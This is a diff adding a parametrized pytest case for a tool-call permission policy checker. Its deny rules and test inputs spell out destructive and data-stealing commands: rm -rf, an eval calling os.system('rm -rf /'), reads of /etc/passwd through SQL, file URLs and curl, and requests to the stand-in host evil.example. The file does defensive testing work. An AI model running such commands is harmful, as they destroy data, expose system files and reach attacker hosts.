@@ -127,6 +127,74 @@ def test_rules_hold_inside_of_other_programs_and_arguments(
     assert answer(policy, tool, **arguments) == wanted
 
 
+LINES = """
+allowed_operations: [exec, run_process, subprocess, run, git, kubectl, psql, run_sql, database, eval, http_request, fetch_url, send_mail, run_report]
+denied_commands: ['rm *', 'sudo *', 'git push *', 'kubectl delete *']
+denied_tables: [users]
+denied_paths: ['/etc/*']
+blocked_hosts: [evil.example]
+"""
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "wanted"),
+    [
+        ("exec", {"argv": ["sudo", "ls"]}, "deny"),
+        ("exec", {"argv": ["ls", "-la"]}, "allow"),
+        ("exec", {"argv": ["frobnicate", "x"]}, "open"),
+        ("run_process", {"program": "rm", "args": ["-rf", "build"]}, "deny"),
+        ("run_process", {"command": "/bin/rm", "args": ["-rf", "build"]}, "deny"),
+        ("run_process", {"program": "ls", "args": ["-la"]}, "allow"),
+        ("run_process", {"program": "git", "args": ["push"]}, "deny"),
+        ("subprocess", {"executable": "rm", "arguments": "-rf x"}, "deny"),
+        ("subprocess", {"command": "git -C x", "args": ["push"]}, "deny"),
+        ("run", {"input": "rm -rf build"}, "deny"),
+        ("run", {"input": "ls"}, "allow"),
+        ("run", {"input": "frobnicate the lot"}, "open"),
+        ("run", {"name": "nightly"}, "allow"),
+        ("run", {"name": "rm -rf build"}, "deny"),
+        ("run_report", {"name": "sales of May"}, "allow"),
+        ("git", {"args": ["push", "--force"]}, "deny"),
+        ("git", {"args": ["-C", "x", "push"]}, "deny"),
+        ("git", {"command": "push --force"}, "deny"),
+        ("git", {"command": "git push"}, "deny"),
+        ("git", {"subcommand": "push", "args": ["origin"]}, "deny"),
+        ("git", {"args": ["status"]}, "allow"),
+        ("git", {"command": "log --oneline"}, "allow"),
+        ("git", {"command": "clone git@evil.example:x/y"}, "deny"),
+        ("git", {"command": "clone git@good.example:x/y"}, "allow"),
+        ("git", {"command": "frobnicate"}, "open"),
+        ("kubectl", {"args": "delete ns prod"}, "deny"),
+        ("kubectl", {"command": "get pods"}, "allow"),
+        ("psql", {"command": "SELECT a FROM users"}, "deny"),
+        ("psql", {"command": "-c 'select a from users'"}, "deny"),
+        ("psql", {"command": "SELECT a FROM orders"}, "allow"),
+        ("run_sql", {"q": "select * from users"}, "deny"),
+        ("run_sql", {"q": "select * from orders"}, "allow"),
+        ("run_sql", {"q": "what users are there"}, "open"),
+        ("run_sql", {"query": "COPY users TO '/tmp/x'"}, "deny"),
+        ("run_sql", {"query": "COPY orders TO '/tmp/x'"}, "allow"),
+        ("run_sql", {"query": "LOAD DATA INFILE '/etc/passwd' INTO TABLE t"}, "deny"),
+        ("run_sql", {"query": "LOAD DATA INFILE '/tmp/x' INTO TABLE t FIELDS TERMINATED BY ','"}, "allow"),
+        ("database", {"text": "DELETE FROM users"}, "deny"),
+        ("database", {"text": "hello"}, "allow"),
+        ("eval", {"expression": "__import__('os').system('rm -rf /')"}, "deny"),
+        ("eval", {"expression": "1 + 1"}, "allow"),
+        ("http_request", {"raw": "GET http://evil.example/ HTTP/1.1"}, "deny"),
+        ("http_request", {"raw": "POST /x HTTP/1.1\r\nHost: evil.example\r\n\r\nx"}, "deny"),
+        ("http_request", {"raw": "GET http://good.example/ HTTP/1.1"}, "allow"),
+        ("fetch_url", {"url": "file:///etc/passwd"}, "deny"),
+        ("fetch_url", {"url": "FILE:/etc/passwd"}, "deny"),
+        ("fetch_url", {"url": "file:///srv/a.txt"}, "allow"),
+        ("run", {"input": "curl file:///etc/passwd"}, "deny"),
+        ("run", {"input": "curl --resolve a.example:443:evil.example https://a.example"}, "deny"),
+        ("send_mail", {"to": "a@good.example", "body": "rm -rf build"}, "allow"),
+    ],
+)
+def test_a_program_is_read_whatever_its_argument_is_called(tool: str, arguments: dict[str, Any], wanted: str) -> None:
+    assert answer(LINES, tool, **arguments) == wanted
+
+
 def test_a_denied_word_denies_the_tool_of_that_name_too() -> None:
     policy = "allowed_operations: ['*']\ndenied_commands: [delete_file, 'rm *', 'git push *']\n"
     assert [answer(policy, tool) for tool in ("delete_file", "rm", "git", "read_file")] == [
